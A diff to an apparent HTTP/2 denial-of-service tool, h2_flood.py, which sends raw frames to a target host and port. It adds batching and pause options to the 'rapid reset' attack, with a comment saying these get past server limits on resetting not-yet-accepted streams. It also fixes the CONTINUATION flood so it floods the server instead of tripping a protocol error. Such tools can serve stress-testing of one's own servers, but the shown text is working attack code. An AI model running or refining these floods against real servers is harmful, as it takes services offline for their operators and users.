@@ -5,6 +5,7 @@ layers of the PyPI `h2` package), so it can say things a conforming client
 never would, and it reads everything the server sends on a second thread.
 
 Usage:  h2_flood.py HOST:PORT ATTACK [--frames N] [--size BYTES] [--authority A] [--path P]
+                                    [--batch PAIRS] [--pause-ms MS]
 
 Attacks (each stops early once the server sent GOAWAY or closed):
   rapid_reset   HEADERS (a complete GET) + RST_STREAM(CANCEL), N times on new
@@ -71,6 +72,7 @@ class Conn:
         self.pings_acked = 0
         self.settings_acked = 0
         self.closed = threading.Event()
+        self.server_settings_acked = threading.Event()
         self.frames_sent = 0
         self.reader = threading.Thread(target=self.read_loop, daemon=True)
 
@@ -128,6 +130,7 @@ class Conn:
                     self.send(ack.serialize(), frames=0)
                 except OSError:
                     pass
+                self.server_settings_acked.set()
         elif isinstance(frame, PingFrame) and "ACK" in frame.flags:
             self.pings_acked += 1
         elif isinstance(frame, HeadersFrame) and "END_HEADERS" in frame.flags:
@@ -167,9 +170,14 @@ def continuation_frame(stream_id, block, flags=()):
 
 
 def rapid_reset(c, args):
-    batch = 50
+    # --batch pairs per write; with --pause-ms between writes the server
+    # has accepted each stream before its reset arrives (the variant that a
+    # limit on resets of not-yet-accepted streams does not see).
+    batch = args.batch
     stream_id = 1
     while c.frames_sent < args.frames and not c.stopped():
+        if args.pause_ms:
+            time.sleep(args.pause_ms / 1000)
         out = []
         for _ in range(batch):
             out.append(headers_frame(stream_id, c.request_block(args.authority, args.path), ("END_HEADERS", "END_STREAM")))
@@ -179,6 +187,9 @@ def rapid_reset(c, args):
 
 
 def continuation(c, args):
+    # Our SETTINGS ACK must not fall inside the header block (that would be
+    # a plain PROTOCOL_ERROR, not a flood): answer the server's first.
+    c.server_settings_acked.wait(10)
     c.send(headers_frame(1, c.request_block(args.authority, args.path), ()))
     # Each CONTINUATION carries complete literal fields (never indexed), so
     # a server that decodes as it goes keeps finding new headers.
@@ -258,6 +269,8 @@ def main():
     p.add_argument("--size", type=int, default=1024)
     p.add_argument("--authority", default="localhost")
     p.add_argument("--path", default="/")
+    p.add_argument("--batch", type=int, default=50)
+    p.add_argument("--pause-ms", type=float, default=0)
     args = p.parse_args()
     host, port = args.target.rsplit(":", 1)
 
